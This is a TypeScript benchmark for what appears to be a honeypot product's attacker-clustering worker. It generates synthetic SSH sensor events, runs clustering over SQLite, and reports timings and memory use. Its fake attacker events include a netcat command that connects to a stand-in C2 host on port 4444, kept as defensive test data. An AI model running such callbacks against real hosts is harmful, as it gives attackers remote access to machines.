/**
 * The clusterer worker's run through the product on SQLite (file, WAL):
 * attacker records read as observations, clustered, planned and written
 * in one transaction. Three runs per size: the first (every record read,
 * every row written), a rerun with nothing new (only the version scan and
 * the clustering), and a rerun after 1% of the attackers came back. Sizes
 * are attacker counts (BENCH_ATTACKERS, comma list; default 1000,10000):
 * five addresses per actor (shared JA3 and HASSH), three actors per crew
 * (shared C2).
 */
import { AttackerObservations } from "../../core/campaigns/attacker_observations.ts";
import { newCampaignId } from "../../core/campaigns/new_campaign_id.ts";
import { runClustering } from "../../core/campaigns/run_clustering.ts";
import { MemoryBus } from "../../core/bus/mod.ts";
import { createRepositories, openMigratedDatabase } from "../../core/db/mod.ts";
import type { Repositories, SensorLogPosition } from "../../core/db/mod.ts";
import { Logger } from "../../core/log/mod.ts";
import type { SensorEvent } from "../../core/sensor/sensor_event.ts";

const SIZES = (Deno.env.get("BENCH_ATTACKERS") ?? "1000,10000").split(",").map(Number);
const BATCH = 500;

function ipOf(i: number): string {
  return `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;
}

function eventsOf(i: number, round: number): SensorEvent[] {
  const actor = Math.floor(i / 5);
  const crew = Math.floor(actor / 3);
  const time = (m: number) =>
    new Date(Date.UTC(2026, 11, 1, 0, (actor % 600) + m + round * 60 * 24)).toISOString();
  const base = {
    v: 1 as const,
    decky: `decky-${crew % 20}`,
    service: "ssh" as const,
    src_ip: ipOf(i),
    src_port: 40000,
    dst_port: 22,
    session: `s${i}-${round}`,
  };
  return [
    { ...base, time: time(0), kind: "connect", ja3: `ja3-${actor}`, hassh: `hassh-${actor}` },
    {
      ...base,
      time: time(5),
      kind: "command",
      command: `nc c2-${crew}.example 4444`,
      c2: [`c2-${crew}.example:4444`],
    },
  ];
}

async function store(repos: Repositories, ids: number[], round: number, cursor: {
  at: SensorLogPosition;
  n: number;
}): Promise<void> {
  for (let k = 0; k < ids.length; k += BATCH) {
    const events = ids.slice(k, k + BATCH).flatMap((i) => eventsOf(i, round));
    const to = { logTime: `t${++cursor.n}`.padStart(12, "0"), linesAtTime: 1 };
    await repos.attackers.storeSensorBatch({
      container: "bench",
      decky: "decky-0",
      from: cursor.at,
      to,
      events,
      badLines: 0,
      isBenign: () => false,
    });
    cursor.at = to;
  }
}

for (const size of SIZES) {
  const dir = await Deno.makeTempDir({ prefix: "clusterer-bench-" });
  try {
    await using handle = await openMigratedDatabase(`sqlite:${dir}/bench.db`);
    const repos = createRepositories(handle);
    const cursor = { at: { logTime: "", linesAtTime: 0 }, n: 0 };
    const all = Array.from({ length: size }, (_, i) => i);
    let t0 = performance.now();
    await store(repos, all, 0, cursor);
    console.log(`${size} attackers stored in ${((performance.now() - t0) / 1000).toFixed(1)} s`);
    await using bus = new MemoryBus({ broadcast: false, logger: new Logger({ level: "error" }) });
    const inputs = new AttackerObservations(repos.campaigns);
    const run = async (label: string) => {
      const rss = Deno.memoryUsage().rss;
      t0 = performance.now();
      const stats = await runClustering({
        campaigns: repos.campaigns,
        inputs,
        bus,
        isBenign: () => false,
        newId: () => newCampaignId(new Date(), Math.random),
        now: () => new Date(),
      });
      const ms = performance.now() - t0;
      console.log(
        `${String(size).padStart(6)} ${label.padEnd(22)} ${ms.toFixed(0).padStart(7)} ms  ` +
          `re-read ${String(stats.changed).padStart(6)}  identities ${stats.identities}  ` +
          `campaigns ${stats.campaigns}  events ${stats.events}  ` +
          `rss +${((Deno.memoryUsage().rss - rss) / 2 ** 20).toFixed(0)} MiB`,
      );
    };
    await run("first run");
    await run("nothing new");
    await store(repos, all.filter((i) => i % 100 === 0), 1, cursor);
    await run("1% came back");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}
